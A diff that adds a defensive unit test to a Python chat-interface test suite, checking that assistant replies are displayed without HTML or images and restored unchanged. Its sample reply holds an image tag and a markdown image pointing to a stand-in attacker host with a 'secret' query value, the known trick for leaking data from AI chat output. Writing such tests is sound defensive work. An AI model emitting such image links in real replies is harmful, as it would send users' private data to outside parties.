@@ -103,6 +103,15 @@ def test_history_keeps_recent_text_turns_and_drops_notices() -> None:
     assert [m.text for m in tedspace.history_messages(chat, keep=4)] == ["look", "plain string", "answer three"]
 
 
+def test_replies_are_shown_without_html_or_images_and_given_back_intact() -> None:
+    reply = 'Sure <img src="http://evil.example/x.png"> & ![leak](http://evil.example/?q=secret) **bold** a<b'
+    display = tedspace.shown(reply)
+    assert "<img" not in display and "![" not in display and "**bold**" in display
+    assert tedspace.unshown(display) == reply
+    chat = [{"role": "user", "content": "q"}, {"role": "assistant", "content": [{"type": "text", "text": display}]}]
+    assert tedspace.history_messages(chat, keep=4)[-1].text == reply
+
+
 # --------------------------------------------------------------------------- catalog
 def test_catalog_lists_none_shipped_and_configured_libraries(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
     shipped = tmp_path / "library_cards"
